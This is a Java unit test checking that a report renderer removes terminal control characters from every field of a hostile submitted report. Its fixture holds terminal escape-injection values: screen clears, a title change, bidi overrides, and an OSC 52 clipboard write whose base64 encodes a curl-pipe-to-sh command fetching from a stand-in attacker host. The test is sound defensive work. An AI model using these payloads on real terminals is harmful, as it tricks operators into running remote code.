package org.testigo.cli.cases;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.testigo.cli.remote.LocalCache;

/**
 * No value of a report reaches the terminal with a control character: an outside test put an
 * OSC 52 clipboard write, a screen clear and a window title into the victim counts, which the
 * renderer printed raw.
 */
class ReportRendererEscapesTest {
  static final String OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\u0007";

  @Test
  void everyFieldOfAHostileReport_isPrintedWithoutControlCharacters() throws Exception {
    ObjectMapper json = new ObjectMapper();
    ObjectNode doc = json.createObjectNode();
    doc.put("version", 1).put("language", "es\u001b[2J");
    doc.putArray("what").add("extortion\u009b31m");
    doc.putObject("victims").put("count", "3" + OSC52).put("minors", "yes").put("minorsCount", "\u001b[H2");
    doc.putObject("where").put("state", "CHP\u001b]0;hacked\u0007").put("place", "x\u202ey").put("placeKind", "k\u0007");
    doc.putObject("when").put("date", "2026\u001b[2J").put("approximate", "a\u0085b");
    doc.putObject("identifying").put("uniform", "u\u001b[1m");
    doc.put("narrative", "n" + OSC52);
    ObjectNode listing = json.createObjectNode().put("seq", 1).put("id", "0123456789abcdef0123456789abcdef")
        .put("context", "report").put("receivedDay", "2026-11-28").put("size", 1).put("sha256", "00".repeat(32))
        .put("hasMailbox", false).put("caseId", "0123456789abcdef0123456789abcdef");
    var report = new DecryptedSubmission(LocalCache.Submission.parse(listing), doc,
        List.of(new DecryptedSubmission.Attachment("f\u001b[2J.jpg", "image/jpeg\u0007", 3)));
    for (String lang : ReportRenderer.LANGUAGES) {
      String out = new ReportRenderer(lang).render(report, List.of(), List.of());
      assertThat(out.codePoints().filter(c -> c < 0x20 && c != '\n' || c >= 0x7f && c <= 0x9f
          || c >= 0x202a && c <= 0x202e).count()).as(out).isZero();
      assertThat(out).contains("Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==");
    }
  }
}
